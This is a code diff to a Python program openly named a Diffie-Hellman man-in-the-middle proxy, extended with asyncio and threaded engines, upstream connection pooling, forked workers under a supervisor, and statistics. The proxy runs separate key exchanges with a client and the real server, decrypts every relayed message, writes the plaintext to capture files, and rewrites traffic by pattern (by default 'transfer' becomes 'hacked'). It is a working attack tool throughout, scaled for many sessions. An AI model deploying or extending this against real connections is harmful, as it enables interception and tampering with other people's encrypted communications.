+                    if not directions[sock].paused and not directions[sock].eof:
+                        events |= selectors.EVENT_READ
+                    if peers[sock].outq:
+                        events |= selectors.EVENT_WRITE
+                    if events == interest.get(sock, 0):
                         continue
+                    if not events:
+                        selector.unregister(sock)
+                    elif sock in interest and interest[sock]:
+                        selector.modify(sock, events)
+                    else:
+                        selector.register(sock, events)
+                    interest[sock] = events
 
-                    with open("intercepted_from_server.txt", "ab") as f:
-                        f.write(plaintext + b"\n")
+                timeout = max_idle - (time.time() - last_activity)
+                if timeout <= 0:
+                    log.info("[*] No activity for %s seconds, closing relay loop.", max_idle)
+                    return
+                deadlines = [d for d in (direction.deadline() for direction in directions.values()) if d is not None]
+                if deadlines:
+                    timeout = max(min(timeout, min(deadlines) - time.monotonic()), 0)
 
-                    try:
-                        print("[MITM] Intercepted from server:", plaintext.decode('utf-8'))
-                    except UnicodeDecodeError:
-                        print("[MITM] Intercepted from server (raw):", plaintext)
+                for key, mask in selector.select(timeout):
+                    sock = key.fileobj
+                    if mask & selectors.EVENT_WRITE:
+                        peers[sock].flush()
+                        last_activity = time.time()
+                    if mask & selectors.EVENT_READ:
+                        direction = directions[sock]
+                        if direction.fill():
+                            last_activity = time.time()
+                        # Most of the time the peer can take the segments
+                        # straight away, so skip the trip through select.
+                        direction.flush()
 
-                    new_segment = encrypt_data(plaintext, key_c)
-                    client_sock.sendall(new_segment)
-                    print("[PROXY] Decrypted and forwarded message from server to client. \n")
+                now = time.monotonic()
+                for direction in directions.values():
+                    deadline = direction.deadline()
+                    if deadline is not None and deadline <= now and not direction.eof:
+                        direction.queue(direction.release())
+                        direction.flush()
 
+        except Exception as e:
+            log.warning("[!] Relay error: %s", e)
 
-            except Exception as e:
-                print(f"[!] Relay error: {e}")
+def server_leg(server_host, server_port) -> Upstream:
+    """The proxy's handshake as a client of the real server."""
+    upstream = POOL.take() if POOL else None
+    if upstream is None:
+        upstream = connect_upstream(server_host, server_port)
+    else:
+        log.debug("[PROXY] Using a pooled upstream connection")
+        STATS.count('pooled_upstreams')
+    log.info("[*] Connected to real server!")
+    try:
+        upstream.sock.sendall(upstream.public_key)
+    except BaseException:
+        upstream.sock.close()
+        raise
+    log.debug("[PROXY] Sent proxy public key to server!")
+    return upstream
+
+def client_leg(client_sock) -> bytes:
+    """The proxy's handshake as the server the client thinks it reached."""
+    priv_c = dh_parameters.generate_private_key()
+    send_public_key(client_sock, priv_c.public_key().public_numbers().y)
+    log.debug("[PROXY] Sent proxy public key to client!")
+
+    log.debug("[DEBUG] Waiting for client's DH public key...")
+    client_sock.settimeout(CLIENT_KEY_TIMEOUT)
+    try:
+        client_pub_val = receive_public_key(client_sock)
+    finally:
+        client_sock.settimeout(None)
+    log.debug("[PROXY] Received client public key!: %d", client_pub_val)
+    return session_key(priv_c, client_pub_val)
+
+def close_upstream(future):
+    if not future.cancelled() and future.exception() is None:
+        future.result().sock.close()
+
+def handle_client(client_sock, server_host, server_port, session=0):
+    # The two legs of the handshake share nothing until the relay starts,
+    # so the server leg runs on its own thread while this one serves the
+    # client, and setup takes as long as the slower leg rather than both.
+    log.debug("[DEBUG] Starting handle_client...")
+    upstream_ready = concurrent.futures.Future()
+
+    def run_server_leg():
+        try:
+            upstream_ready.set_result(server_leg(server_host, server_port))
+        except BaseException as e:
+            upstream_ready.set_exception(e)
+
+    STATS.count('sessions')
+    threading.Thread(target=run_server_leg, daemon=True).start()
+    try:
+        with STATS.phase('handshake'):
+            try:
+                key_c = client_leg(client_sock)
+            except socket.timeout:
+                log.error("[ERROR] Timed out waiting for client's public key.")
                 return
+            upstream = upstream_ready.result()
+        STATS.count('handshakes')
+        log.info("[PROXY] Session key with client: %s", key_c.hex())
+        log.info("[PROXY] Session key with server: %s", upstream.key.hex())
+
+        log.info("[*] Entering bidirectional relay loop...")
+        relay_loop(client_sock, upstream.sock, key_c, upstream.key, max_idle=10, session=session)
+        log.info("[*] Closed connections (session %d).", session)
+
+    except Exception as e:
+        log.warning("[!] Error: %s", e)
+
+    finally:
+        client_sock.close()
+        # Also closes an upstream that only finishes connecting after the
+        # client leg has failed.
+        upstream_ready.add_done_callback(close_upstream)
 
-def handle_client(client_sock, server_host, server_port):
-    MAX_EXECUTION_TIME = 60
-    start_time = time.time()
+
+def listen_socket(listen_port, backlog=DEFAULT_BACKLOG, reuse_port=False):
+    """A listening socket on every interface; reuse_port lets each worker bind its own."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     try:
-        print("[DEBUG] Starting handle_client...")
-        server_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        server_sock.connect((server_host, server_port))
-        print("[*] Connected to real server!")
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        if reuse_port:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+        sock.bind(('0.0.0.0', listen_port))
+        sock.listen(backlog)
+    except BaseException:
+        sock.close()
+        raise
+    return sock
 
-        server_pub_val = receive_public_key(server_sock)
-        print(f"[PROXY] Received server public key!: {server_pub_val}")
+def start_proxy(listen_port, server_host, server_port, backlog=DEFAULT_BACKLOG, sock=None):
+    with sock or listen_socket(listen_port, backlog) as server:
+        log.info("[+] dh-proxy listening on port %d", listen_port)
 
-        priv_c = dh_parameters.generate_private_key()
-        pub_c = priv_c.public_key().public_numbers().y
+        while True:
+            client_sock, addr = server.accept()
+            session = next(SESSION_IDS)
+            log.info("[+] Accepted connection from %s (session %d)", addr, session)
+            threading.Thread(
+                target=handle_client,
+                args=(client_sock, server_host, server_port, session),
+                daemon=True
+            ).start()
 
-        send_public_key(client_sock, pub_c)
-        print("[PROXY] Sent proxy public key to client!")
+async def read_public_key(reader) -> int:
+    try:
+        key_bytes = await reader.readexactly(KEY_DIGITS)
+    except asyncio.IncompleteReadError:
+        raise ConnectionError("Connection closed during key reception")
+    return int(key_bytes.decode('utf-8'))
 
-        print("[DEBUG] Waiting for client's DH public key...")
-        client_sock.settimeout(30)
-        try:
-            client_pub_val = receive_public_key(client_sock)
-        except socket.timeout:
-            print("[ERROR] Timed out waiting for client's public key.")
+class IdleTimer:
+    """Tracks the last message in either direction of a relay.
+
+    expired() sleeps until the deadline instead of polling, and goes back
+    to sleep if a message moved it in the meantime.
+    """
+
+    def __init__(self, max_idle):
+        self.max_idle = max_idle
+        self.loop = asyncio.get_running_loop()
+        self.touch()
+
+    def touch(self):
+        self.last_activity = self.loop.time()
+
+    async def expired(self):
+        while True:
+            remaining = self.last_activity + self.max_idle - self.loop.time()
+            if remaining <= 0:
+                log.info("[*] No activity for %s seconds, closing relay loop.", self.max_idle)
+                return
+            await asyncio.sleep(remaining)
+
+async def relay_direction(reader, writer, relay, idle):
+    # One direction of the relay: whatever the sender delivers goes
+    # through the SegmentRelay, and drain() holds the reader back while
+    # the peer is slow to read. While the rewriter holds bytes, the read
+    # is bounded by their deadline.
+    while True:
+        deadline = relay.deadline()
+        if deadline is None:
+            data = await reader.read(RELAY_READ_SIZE)
+        else:
+            try:
+                data = await asyncio.wait_for(reader.read(RELAY_READ_SIZE), max(deadline - time.monotonic(), 0))
+            except asyncio.TimeoutError:
+                writer.writelines(relay.release())
+                await writer.drain()
+                continue
+        if not data:
+            if relay.inbuf:
+                log.warning("[!] Connection closed by %s in the middle of a segment. Ending relay loop.", relay.name)
+            else:
+                log.info("[!] Socket closed by %s (normal EOF). Ending relay loop.", relay.name)
+            writer.writelines(relay.finish())
+            await writer.drain()
             return
-        finally:
-            client_sock.settimeout(None)
-        print(f"[PROXY] Received client public key!: {client_pub_val}")
+        idle.touch()
+        parts = relay.feed(data)
+        if parts:
+            writer.writelines(parts)
+            await writer.drain()
 
-        priv_s = dh_parameters.generate_private_key()
-        pub_s = priv_s.public_key().public_numbers().y
+async def relay_async(client_reader, client_writer, server_reader, server_writer, key_c, key_s,
+                      max_idle=MAX_IDLE, session=0):
+    cipher_c = SegmentCipher(key_c)
+    cipher_s = SegmentCipher(key_s)
+    idle = IdleTimer(max_idle)
+    tasks = [
+        asyncio.create_task(relay_direction(client_reader, server_writer, SegmentRelay(
+            cipher_c, cipher_s, functools.partial(intercept_from_client, session), 'client',
+            REWRITE.stream('client')), idle)),
+        asyncio.create_task(relay_direction(server_reader, client_writer, SegmentRelay(
+            cipher_s, cipher_c, functools.partial(intercept_from_server, session), 'server',
+            REWRITE.stream('server')), idle)),
+        asyncio.create_task(idle.expired()),
+    ]
+    # Like relay_loop, the session ends as soon as either side closes or
+    # the relay goes idle.
+    try:
+        done, pending = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+    finally:
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
+    for task in done:
+        if not task.cancelled() and task.exception():
+            log.warning("[!] Relay error: %s", task.exception())
 
-        send_public_key(server_sock, pub_s)
-        print("[PROXY] Sent proxy public key to server!")
+async def server_leg_async(server_host, server_port):
+    loop = asyncio.get_running_loop()
+    upstream = POOL.take() if POOL else None
+    if upstream is not None:
+        log.debug("[PROXY] Using a pooled upstream connection")
+        STATS.count('pooled_upstreams')
+        server_reader, server_writer = await asyncio.open_connection(sock=upstream.sock)
+    else:
+        server_reader, server_writer = await asyncio.open_connection(server_host, server_port)
+    try:
+        if upstream is None:
+            server_pub_val = await read_public_key(server_reader)
+            log.debug("[PROXY] Received server public key!: %d", server_pub_val)
+            # Key generation and the exchange run on the default executor,
+            # so other sessions keep moving while this one's are computed.
+            upstream = await loop.run_in_executor(None, Upstream, None, server_pub_val)
+        log.info("[*] Connected to real server!")
+        server_writer.write(upstream.public_key)
+        await server_writer.drain()
+    except BaseException:
+        server_writer.close()
+        raise
+    log.debug("[PROXY] Sent proxy public key to server!")
+    return server_reader, server_writer, upstream.key
 
-        client_public_key = dh.DHPublicNumbers(client_pub_val, param_numbers).public_key()
-        key_c = derive_key(priv_c.exchange(client_public_key))
-        print(f"[PROXY] Session key with client: {key_c.hex()}")
+async def client_leg_async(client_reader, client_writer) -> bytes:
+    loop = asyncio.get_running_loop()
+    priv_c = await loop.run_in_executor(None, dh_parameters.generate_private_key)
+    client_writer.write(encode_public_key(priv_c.public_key().public_numbers().y))
+    await client_writer.drain()
+    log.debug("[PROXY] Sent proxy public key to client!")
 
-        server_public_key = dh.DHPublicNumbers(server_pub_val, param_numbers).public_key()
-        key_s = derive_key(priv_s.exchange(server_public_key))
-        print(f"[PROXY] Session key with server: {key_s.hex()}")
+    client_pub_val = await asyncio.wait_for(read_public_key(client_reader), CLIENT_KEY_TIMEOUT)
+    log.debug("[PROXY] Received client public key!: %d", client_pub_val)
+    return await loop.run_in_executor(None, session_key, priv_c, client_pub_val)
 
-        print("[*] Entering bidirectional relay loop...")
+def close_server_leg(task):
+    if not task.cancelled() and task.exception() is None:
+        task.result()[1].close()
 
-        client_sock.settimeout(10)
-        server_sock.settimeout(10)
-        
-        relay_loop(client_sock, server_sock, key_c, key_s, max_idle=10)
-            
+async def handle_client_async(client_reader, client_writer, server_host, server_port):
+    session = next(SESSION_IDS)
+    log.info("[+] Accepted connection from %s (session %d)", client_writer.get_extra_info('peername'), session)
+    # Both legs of the handshake run at once and join before relaying.
+    STATS.count('sessions')
+    server_leg_task = asyncio.create_task(server_leg_async(server_host, server_port))
+    try:
+        with STATS.phase('handshake'):
+            try:
+                key_c = await client_leg_async(client_reader, client_writer)
+            except asyncio.TimeoutError:
+                log.error("[ERROR] Timed out waiting for client's public key.")
+                return
+            server_reader, server_writer, key_s = await server_leg_task
+        STATS.count('handshakes')
+        log.info("[PROXY] Session key with client: %s", key_c.hex())
+        log.info("[PROXY] Session key with server: %s", key_s.hex())
 
-        client_sock.close()
-        server_sock.close()
-        print("[*] Closed connections.")
+        log.info("[*] Entering bidirectional relay loop...")
+        await relay_async(client_reader, client_writer, server_reader, server_writer, key_c, key_s, session=session)
+        log.info("[*] Closed connections (session %d).", session)
 
     except Exception as e:
-        print(f"[!] Error: {e}")
+        log.warning("[!] Error: %s", e)
 
+    finally:
+        client_writer.close()
+        server_leg_task.cancel()
+        server_leg_task.add_done_callback(close_server_leg)
+
+def raise_fd_limit():
+    # Every session holds two sockets, so the usual soft limit of 1024
+    # descriptors would cap the proxy at about 500 sessions.
+    try:
+        import resource
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        if soft != hard:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    except (ImportError, ValueError, OSError):
+        pass
+
+async def serve_proxy(listen_port, server_host, server_port, backlog=DEFAULT_BACKLOG, sock=None):
+    # Handshakes, upstream connects and both relay directions of every
+    # session are coroutines on one event loop.
+    server = await asyncio.start_server(
+        lambda reader, writer: handle_client_async(reader, writer, server_host, server_port),
+        sock=sock or listen_socket(listen_port, backlog), backlog=backlog)
+    log.info("[+] dh-proxy listening on port %d", listen_port)
+    async with server:
+        await server.serve_forever()
+
+def start_proxy_async(listen_port, server_host, server_port, backlog=DEFAULT_BACKLOG, sock=None):
+    raise_fd_limit()
+    asyncio.run(serve_proxy(listen_port, server_host, server_port, backlog, sock))
+
+def serve(args, sock=None):
+    """Open the capture and the upstream pool, then run the chosen engine in this process."""
+    global POOL
+    if args.capture:
+        CAPTURE.open(args.capture, args.capture_max_mb << 20)
+    if args.pool:
+        POOL = UpstreamPool(args.server_ip, args.server_port, args.pool, args.pool_idle)
+    start = start_proxy_async if args.engine == 'asyncio' else start_proxy
+    start(listen_port=args.listen, server_host=args.server_ip, server_port=args.server_port,
+          backlog=args.backlog, sock=sock)
+
+class StatsPipe:
+    """Sends a worker's STATS to the supervisor as JSON lines.
+
+    A snapshot goes out every WORKER_STATS_INTERVAL seconds, so a worker
+    that is killed outright loses at most that much of its counts, and
+    the full report follows when the worker stops.
+    """
+
+    def __init__(self, fd):
+        self.fd = fd
+        self.lock = threading.Lock()
+        threading.Thread(target=self._run, name='stats', daemon=True).start()
+
+    def _run(self):
         try:
-            client_sock.close()
-        except Exception:
+            while True:
+                time.sleep(WORKER_STATS_INTERVAL)
+                self.send(STATS.snapshot())
+        except OSError:
             pass
+
+    def send(self, report):
+        line = json.dumps(report).encode() + b'\n'
+        with self.lock:
+            while line:
+                line = line[os.write(self.fd, line):]
+
+def run_worker(index, args, sock=None, stats_fd=None):
+    """Serve as worker index of a Supervisor until SIGTERM; never returns."""
+    # Ctrl-C reaches the whole process group; the supervisor turns it
+    # into a SIGTERM for each worker.
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    signal.signal(signal.SIGTERM, lambda signum, frame: sys.exit(0))
+    logging.basicConfig(level=LOG_LEVELS[args.log_level], format=f'[w{index}] %(message)s',
+                        stream=sys.stdout, force=True)
+    code = 0
+    stats = None
+    try:
+        if stats_fd is not None:
+            STATS.enable('dh-proxy', f'worker-{index}')
+            stats = StatsPipe(stats_fd)
+        if args.capture:
+            args.capture = f"{args.capture}-w{index}"
+        serve(args, sock or listen_socket(args.listen, args.backlog, reuse_port=True))
+    except SystemExit:
+        pass
+    except Exception as e:
+        log.error("[!] Worker %d failed: %s", index, e)
+        code = 1
+    finally:
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
         try:
-            server_sock.close()
-        except Exception:
+            CAPTURE.close()
+            if stats:
+                stats.send(STATS.report())
+        except OSError:
             pass
+        sys.stdout.flush()
+        # Skip the atexit handlers inherited from the supervisor.
+        os._exit(code)
 
+def describe_exit(status) -> str:
+    code = os.waitstatus_to_exitcode(status)
+    if code < 0:
+        return f"was killed by signal {-code}"
+    return f"exited with status {code}"
 
-def start_proxy(listen_port, server_host, server_port):
-    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
-        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        server.bind(('0.0.0.0', listen_port))
-        server.listen(5)
-        print(f"[+] dh-proxy listening on port {listen_port}")
+class Supervisor:
+    """Runs args.workers forked copies of the proxy and keeps them running.
 
-        while True:
-            client_sock, addr = server.accept()
-            print(f"[+] Accepted connection from {addr}")
-            threading.Thread(
-                target=handle_client,
-                args=(client_sock, server_host, server_port),
-                daemon=True
-            ).start()
+    Each worker binds the listen port itself with SO_REUSEPORT, so the
+    kernel spreads new connections across them; where that option is
+    missing they all accept on one socket opened before forking. A worker
+    that exits is started again, after WORKER_MIN_UPTIME seconds if it
+    died straight away, so one that cannot start does not spin. With
+    stats on, workers report down a pipe and the supervisor's report at
+    exit adds up the last one from every worker it ran.
+    """
+
+    def __init__(self, args):
+        self.args = args
+        self.workers = {}   # pid -> (index, started, stats fd or None)
+        self.pending = {}   # index -> when to start it again
+        self.reports = {}   # pid -> latest report, kept after the worker is gone
+        self.partial = {}   # stats fd -> bytes of an unfinished line
+        self.stopping = False
+        self.selector = selectors.DefaultSelector()
+        reuse_port = hasattr(socket, 'SO_REUSEPORT')
+        # Bind here either way, so a port that is in use fails before any fork.
+        self.sock = listen_socket(args.listen, args.backlog, reuse_port)
+        if reuse_port:
+            # A listener nobody accepts on would still be handed connections.
+            self.sock.close()
+            self.sock = None
+
+    def run(self):
+        for signum in (signal.SIGINT, signal.SIGTERM):
+            signal.signal(signum, self._stop)
+        log.info("[+] dh-proxy supervising %d workers on port %d (%s)", self.args.workers, self.args.listen,
+                 "shared socket" if self.sock else "SO_REUSEPORT")
+        try:
+            for index in range(self.args.workers):
+                self._spawn(index)
+            while not self.stopping:
+                self._poll(WORKER_POLL_INTERVAL)
+                self._reap()
+                now = time.monotonic()
+                for index, due in list(self.pending.items()):
+                    if due <= now and not self.stopping:
+                        del self.pending[index]
+                        self._spawn(index)
+        finally:
+            self._shutdown()
+        for report in self.reports.values():
+            STATS.merge(report)
+
+    def _stop(self, signum, frame):
+        self.stopping = True
+
+    def _spawn(self, index):
+        read_fd = stats_fd = None
+        if STATS.enabled:
+            read_fd, stats_fd = os.pipe()
+        sys.stdout.flush()
+        pid = os.fork()
+        if pid == 0:
+            for fd in self.partial:
+                os.close(fd)
+            if read_fd is not None:
+                os.close(read_fd)
+            run_worker(index, self.args, self.sock, stats_fd)
+        if read_fd is not None:
+            os.close(stats_fd)
+            self.selector.register(read_fd, selectors.EVENT_READ, pid)
+            self.partial[read_fd] = b''
+        self.workers[pid] = (index, time.monotonic(), read_fd)
+        log.info("[+] Started worker %d (pid %d)", index, pid)
+
+    def _poll(self, timeout):
+        for key, _ in self.selector.select(timeout):
+            self._read(key.fd, key.data)
+
+    def _read(self, fd, pid):
+        data = os.read(fd, 1 << 16)
+        if not data:
+            self.selector.unregister(fd)
+            del self.partial[fd]
+            os.close(fd)
+            return
+        lines = (self.partial[fd] + data).split(b'\n')
+        self.partial[fd] = lines.pop()
+        for line in lines:
+            try:
+                self.reports[pid] = json.loads(line)
+            except ValueError:
+                log.warning("[!] Unreadable stats from pid %d", pid)
+
+    def _reap(self, flags=os.WNOHANG):
+        while self.workers:
+            pid, status = os.waitpid(-1, flags)
+            if not pid:
+                return
+            if pid not in self.workers:
+                continue
+            index, started, fd = self.workers.pop(pid)
+            # Pick up the report a stopping worker wrote on its way out.
+            while fd in self.partial:
+                self._read(fd, pid)
+            if self.stopping:
+                continue
+            STATS.count('worker_restarts')
+            log.warning("[!] Worker %d (pid %d) %s, restarting", index, pid, describe_exit(status))
+            delay = WORKER_MIN_UPTIME if time.monotonic() - started < WORKER_MIN_UPTIME else 0
+            self.pending[index] = time.monotonic() + delay
+
+    def _shutdown(self):
+        log.info("[*] Stopping %d workers...", len(self.workers))
+        for pid in self.workers:
+            os.kill(pid, signal.SIGTERM)
+        deadline = time.monotonic() + WORKER_STOP_TIMEOUT
+        while self.workers and time.monotonic() < deadline:
+            self._poll(0.1)
+            self._reap()
+        for pid in self.workers:
+            log.warning("[!] Worker pid %d did not stop, killing it", pid)
+            os.kill(pid, signal.SIGKILL)
+        self._reap(0)
+        self.selector.close()
+        if self.sock:
+            self.sock.close()
 
 
 
 if __name__ == "__main__":
     parser = argparse.ArgumentParser(description="Diffie-Hellman MITM Proxy")
-    parser.add_argument('-l', '--listen', type=int, required=True, help="Port to listen on")
-    parser.add_argument('server_ip', type=str, help="Real server IP address")
-    parser.add_argument('server_port', type=int, help="Real server port")
+    parser.add_argument('-l', '--listen', type=int, help="Port to listen on")
+    parser.add_argument('--engine', choices=('asyncio', 'threads'), default='asyncio',
+                        help="asyncio runs every session on one event loop; threads uses a thread per session")
+    parser.add_argument('--backlog', type=int, default=DEFAULT_BACKLOG, metavar='N',
+                        help="Pending connections the listening socket queues")
+    parser.add_argument('--capture', default=CAPTURE_PREFIX, metavar='PREFIX',
+                        help="Write intercepted plaintext to PREFIX.NNNNN.cap with a .idx index; '' disables capture")
+    parser.add_argument('--capture-max-mb', type=int, default=CAPTURE_MAX_MB, metavar='MB',
+                        help="Start a new capture part once the current one reaches this size")
+    parser.add_argument('--pool', type=int, default=0, metavar='N',
+                        help="Keep N upstream connections open and past the server's key, ready for new clients")
+    parser.add_argument('--pool-idle', type=float, default=POOL_MAX_IDLE, metavar='SECONDS',
+                        help="Replace pooled upstream connections that have been idle this long")
+    parser.add_argument('--rules', metavar='FILE',
+                        help="Rewrite rules, one tab-separated kind/direction/pattern/replacement per line "
+                             "(default: replace 'transfer' with 'hacked' in client traffic)")
+    parser.add_argument('--rewrite-hold', type=float, default=REWRITE_HOLD, metavar='SECONDS',
+                        help="How long bytes that could start a match spanning segments wait for the next "
+                             "segment before they are sent on unchanged. Longer catches matches split across "
+                             "slow writes; shorter delays a sender that pauses mid-stream less")
+    parser.add_argument('--workers', type=int, default=1, metavar='N',
+                        help="Run N proxy processes on the listen port under a supervisor that restarts them")
+    parser.add_argument('--stats', action='store_true',
+                        help="Print session, handshake and relay counters as a JSON line on stderr at exit")
+    parser.add_argument('--log-level', choices=tuple(LOG_LEVELS), default='info',
+                        help="debug also logs every relayed message")
+    parser.add_argument('--show-capture', metavar='FILE',
+                        help="Print the records in a capture part and exit")
+    parser.add_argument('--session', type=int, metavar='ID',
+                        help="With --show-capture, only print this session")
+    parser.add_argument('server_ip', type=str, nargs='?', help="Real server IP address")
+    parser.add_argument('server_port', type=int, nargs='?', help="Real server port")
 
     args = parser.parse_args()
+    logging.basicConfig(level=LOG_LEVELS[args.log_level], format='%(message)s', stream=sys.stdout)
+    if args.show_capture:
+        try:
+            show_capture(args.show_capture, args.session)
+        except (OSError, ValueError) as e:
+            print(f"[!] {e}")
+            sys.exit(1)
+        sys.exit(0)
+    if args.listen is None or args.server_ip is None or args.server_port is None:
+        parser.error("-l PORT, server_ip and server_port are required")
+    if args.backlog < 1:
+        parser.error("--backlog must be at least 1")
+    if args.capture_max_mb < 1:
+        parser.error("--capture-max-mb must be at least 1")
+    if args.pool < 0:
+        parser.error("--pool cannot be negative")
+    if args.pool_idle <= 0:
+        parser.error("--pool-idle must be positive")
+    if args.workers < 1:
+        parser.error("--workers must be at least 1")
+    if args.workers > 1 and not hasattr(os, 'fork'):
+        parser.error("--workers needs os.fork, which this platform lacks")
+    if args.rewrite_hold <= 0:
+        parser.error("--rewrite-hold must be positive")
+    try:
+        REWRITE = Rewriter(load_rules(args.rules) if args.rules else DEFAULT_RULES, args.rewrite_hold)
+    except (OSError, ValueError) as e:
+        parser.error(str(e))
 
     try:
-        start_proxy(listen_port=args.listen, server_host=args.server_ip, server_port=args.server_port)
+        if args.workers > 1:
+            enable_stats('dh-proxy', 'supervisor', args.stats)
+            Supervisor(args).run()
+            log.info("\n[!] Exiting...")
+        else:
+            enable_stats('dh-proxy', 'proxy', args.stats)
+            serve(args)
     except KeyboardInterrupt:
-        print("\n[!] Exiting...")
+        log.info("\n[!] Exiting...")
         sys.exit(0)
 
     except Exception as e:
-        print(f"[!] Fatal error: {e}")
+        log.error("[!] Fatal error: %s", e)
         sys.exit(1)